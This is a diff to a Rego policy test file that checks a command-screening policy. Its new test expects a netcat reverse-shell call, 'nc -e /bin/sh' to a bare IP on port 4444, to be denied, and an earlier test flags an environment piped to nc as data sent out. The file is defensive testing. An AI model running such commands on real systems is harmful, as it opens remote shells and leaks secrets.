@@ -47,3 +47,11 @@ test_an_environment_in_a_pipe_is_sent if {
 	sender := {"name": "nc", "argv": ["nc", "host", "80"], "args": [], "pipe": 0, "pos": 1}
 	checks(run([source, sender]), []) == {"sent"}
 }
+
+netcat(words) := run([{"name": "nc", "argv": array.concat(["nc"], words), "args": words}])
+
+test_netcat_to_a_bare_address_is_denied if {
+	checks(netcat(["-e", "/bin/sh", "203.0.113.7", "4444"]), []) == {"netcat"}
+	checks(netcat(["-z", "127.0.0.1", "8080"]), []) == set()
+	checks(netcat(["-z", "database", "5432"]), []) == set()
+}
